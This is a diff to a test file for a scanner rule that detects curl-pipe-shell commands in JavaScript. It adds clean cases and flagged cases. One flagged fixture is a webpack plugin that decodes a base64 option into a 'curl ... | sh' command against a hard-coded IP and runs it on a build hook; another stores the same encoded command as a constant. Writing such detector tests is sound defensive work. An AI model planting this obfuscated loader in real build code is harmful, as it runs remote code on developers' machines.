@@ -4,6 +4,16 @@ import rule from './curl-pipe-shell-in-code.js';
 ruleTest(rule, {
   clean: [
     {
+      name: 'a base64 option that decodes to a plain command (no download), run after decoding',
+      file: 'config/plugin.js',
+      code: `const { exec } = require('child_process');\nclass P {\n  constructor(o) { this.options = { probe: 'Z2l0IGRlc2NyaWJlIC0tdGFncyAtLWFsd2F5cw==', ...o }; }\n  run() { exec(Buffer.from(this.options.probe, 'base64').toString()); }\n}\nmodule.exports = P;\n`,
+    },
+    {
+      name: 'base64 image and font literals beside a git exec',
+      file: 'build/assets.js',
+      code: `const { execSync } = require('child_process');\nconst PIXEL = 'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==';\nexecSync('git rev-parse HEAD');\nmodule.exports = { PIXEL };\n`,
+    },
+    {
       name: 'curl to a file, then checksum (no pipe)',
       file: 'scripts/fetch.js',
       code: `const { execSync } = require('child_process');\nexecSync('curl -fsSL -o bin.tgz https://example.org/bin.tgz && sha256sum bin.tgz');\n`,
@@ -25,6 +35,18 @@ ruleTest(rule, {
     },
   ],
   flagged: [
+    {
+      name: 'webpack plugin: a base64 option decoded in another method and exec-ed (curl | sh)',
+      file: 'config/BuildInfoPlugin.js',
+      code: `const { exec } = require('child_process');\nclass BuildInfoPlugin {\n  constructor(options = {}) {\n    this.options = { filename: 'build-info.json', probe: 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4xNDoxMjI0L2NsaWVudC83IHwgc2g=', ...options };\n  }\n  warm() {\n    const cmd = Buffer.from(this.options.probe, 'base64').toString();\n    exec(cmd, { windowsHide: true }, () => {});\n  }\n  apply(compiler) { compiler.hooks.environment.tap('B', () => this.warm()); }\n}\nmodule.exports = BuildInfoPlugin;\n`,
+      findings: [{ line: 4, severity: 'critical', confidence: 'high', decoded: /curl -s http:\/\/198\.51\.100\.14:1224\/client\/7 \| sh/, message: /decoded from base64/ }],
+    },
+    {
+      name: 'a base64 literal holding curl | sh that no launch is seen decoding: a hidden command, medium',
+      file: 'src/constants.js',
+      code: `const { spawn } = require('child_process');\nspawn('git', ['status']);\nmodule.exports = { decode: (s) => Buffer.from(s, 'base64').toString(), WARMUP: 'Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4xNDoxMjI0L2NsaWVudC83IHwgc2g=', RETRIES: 3 };\n`,
+      findings: [{ line: 3, severity: 'medium', message: /hidden in a base64 literal/ }],
+    },
     {
       name: "module name and command split into constant pieces: require('child_pro' + 'cess')['ex' + 'ec'](cmd)",
       file: 'index.js',
